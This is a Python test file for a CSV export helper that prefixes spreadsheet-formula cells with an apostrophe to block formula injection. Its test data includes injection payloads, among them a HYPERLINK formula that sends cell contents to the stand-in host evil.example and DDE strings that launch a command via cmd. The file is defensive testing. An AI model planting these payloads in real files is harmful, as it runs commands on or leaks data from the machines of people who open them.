"""Cells that a spreadsheet would take for a formula."""

import csv

import pytest

from kohaku_lib.evaluation import write_csv
from kohaku_lib.evaluation.csv_escaping import escape_formula


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\n=1+1",
        "＝1+1",
        "- first point",
        "=5",
    ],
)
def test_what_a_spreadsheet_would_compute_gets_an_apostrophe(cell):
    assert escape_formula("explanation", cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-5", "-5.2", "+3e5", "-5 to -3", "-12 %", "5-7", "[-5,-3]", "is_blank", "", "a=b", "'x"]
)
def test_numbers_ranges_and_other_texts_stay_in_every_column(cell):
    assert [escape_formula(name, cell) for name in ("explanation", "answer_value", "id")] == [cell] * 3


@pytest.mark.parametrize("cell", ["-dQw4w9", "@kohaku", "+Plus", "=x"])
def test_what_is_compared_letter_by_letter_stays_where_it_could_do_nothing(cell):
    assert [escape_formula(name, cell) for name in ("id", "ref_id", "answer_value")] == [cell] * 3
    assert escape_formula("answer", cell) == "'" + cell


@pytest.mark.parametrize("name", ["id", "ref_id", "answer_value"])
def test_a_formula_that_acts_is_escaped_there_too(name):
    assert escape_formula(name, "-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert escape_formula(name, "=HYPERLINK(A1)") == "'=HYPERLINK(A1)"


def test_files_hold_the_cells_as_written_where_the_setting_says_so(tmp_path):
    rows = [{"id": "-7", "answer": "=1+1", "answer_value": "-5"}]
    for escape, answer in ((True, "'=1+1"), (False, "=1+1")):
        write_csv(rows, tmp_path / "a.csv", ["id", "answer", "answer_value"], escape_formulas=escape)
        assert (tmp_path / "a.csv").read_text() == f"id,answer,answer_value\n-7,{answer},-5\n"


def test_a_carriage_return_begins_no_row_of_its_own(tmp_path):
    write_csv([{"id": "q", "answer": "a\r=1+1\r\nb"}], tmp_path / "a.csv", ["id", "answer"])
    with (tmp_path / "a.csv").open(newline="") as stream:
        assert list(csv.reader(stream)) == [["id", "answer"], ["q", "a\n=1+1\nb"]]
